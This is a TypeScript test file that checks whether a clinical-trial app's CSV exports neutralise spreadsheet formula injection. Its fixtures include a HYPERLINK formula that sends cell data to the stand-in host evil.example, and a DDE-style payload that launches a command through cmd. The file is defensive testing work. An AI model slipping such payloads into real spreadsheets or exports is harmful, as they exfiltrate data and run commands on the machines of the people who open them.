// A user's text reaches spreadsheets as text: every CSV Vigil writes (SDTM exports, the audit
// trail, the auditor bundle) neutralises formula starts, and keeps machine values exact.
import { describe, expect, it } from 'vitest';
import { ephemeralSigningKey } from '../../src/lib/server/audit/signing-key';
import { recordAdverseEvent } from '../../src/lib/server/services/capture/adverse-events';
import {
	markVitalsEnteredInError,
	recordVitals
} from '../../src/lib/server/services/capture/vitals';
import { exportDomainCsv } from '../../src/lib/server/services/audit/exports';
import { auditTrailCsv } from '../../src/lib/server/services/audit/audit-export';
import { createAuditorBundle } from '../../src/lib/server/services/audit/bundle';
import { parseCsv } from '../helpers/csv';
import { actorFor, type TestDb, runningSession, freshDbEach } from '../helpers/db';
import { noCriteria } from '../helpers/fixtures';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { entry, readEntries, saveStream } from '../helpers/bundle-files';

let t: TestDb;
freshDbEach((db) => (t = db));

const now = () => new Date('2026-11-20T15:00:00Z');
const TERM = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
const REASON = '@SUM(1+1)*cmd|" /C calc"!A0 wrong participant';

async function recordsWithFormulas() {
	const { coordinator: c, participant: p, session: s } = await runningSession(t, { now });
	await recordVitals(c, s.id, {
		timepoint: -30,
		takenAt: '2026-11-20T09:30',
		systolic: 122,
		diastolic: 80,
		heartRate: 70,
		confirmed: true
	});
	const wrong = await recordVitals(c, s.id, {
		timepoint: 30,
		takenAt: '2026-11-20T10:30',
		systolic: 140,
		diastolic: 90,
		heartRate: 90,
		confirmed: true
	});
	await markVitalsEnteredInError(c, wrong.id, { reason: REASON });
	await recordAdverseEvent(c, p.id, {
		verbatimTerm: TERM,
		codedTermCode: '',
		onsetAt: '2026-11-20T11:00',
		awareAt: '2026-11-20T11:10',
		severity: '2',
		criteria: noCriteria,
		relatedness: 'possible',
		expectedness: 'expected',
		actionTaken: 'dose-not-changed',
		outcome: 'recovering'
	});
}

const records = (text: string) => {
	const [header, ...rows] = parseCsv(text);
	return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
};

/** Every cell of a CSV that a spreadsheet would read as a formula. */
const formulaCells = (text: string) =>
	parseCsv(text)
		.flat()
		.filter((cell) => /^[=+\-@\t\r\0]/.test(cell) && !/^[+-]?(\d|\.\d|P)/.test(cell));

describe('CSV formula neutralising', () => {
	it('AE AETERM and the audit-trail reason start with an apostrophe; VSELTM stays -PT30M', async () => {
		await recordsWithFormulas();
		const admin = await actorFor(t, 'admin', [], now);
		const ae = await new Response((await exportDomainCsv(admin, 'AE', {})).stream).text();
		expect(records(ae)[0]!.AETERM).toBe(`'${TERM}`);
		expect(formulaCells(ae)).toEqual([]);
		const vs = await new Response((await exportDomainCsv(admin, 'VS', {})).stream).text();
		expect(records(vs).map((r) => r.VSELTM)).toContain('-PT30M');
		expect(formulaCells(vs)).toEqual([]);
		const trail = await new Response((await auditTrailCsv(admin, {})).stream).text();
		expect(trail).toContain(`'${REASON.replaceAll('"', '""')}`);
		expect(formulaCells(trail)).toEqual([]);
	});

	it('no cell of any CSV in the auditor bundle can start a formula', async () => {
		await recordsWithFormulas();
		const auditor = await actorFor(t, 'auditor', ['A1'], now);
		const file = join(mkdtempSync(join(tmpdir(), 'vigil-csv-')), 'bundle.tar.gz');
		const bundle = await createAuditorBundle(auditor, {}, { key: ephemeralSigningKey() });
		await saveStream(bundle.stream, file);
		const entries = await readEntries(file);
		const csvs = entries.filter((e) => e.name.endsWith('.csv'));
		expect(csvs.map((e) => e.name)).toEqual(expect.arrayContaining(['ae.csv', 'audit-trail.csv']));
		for (const e of csvs) expect(formulaCells(e.content.toString('utf8')), e.name).toEqual([]);
		expect(entry(entries, 'ae.csv').content.toString()).toContain(`'=HYPERLINK`);
	});
});
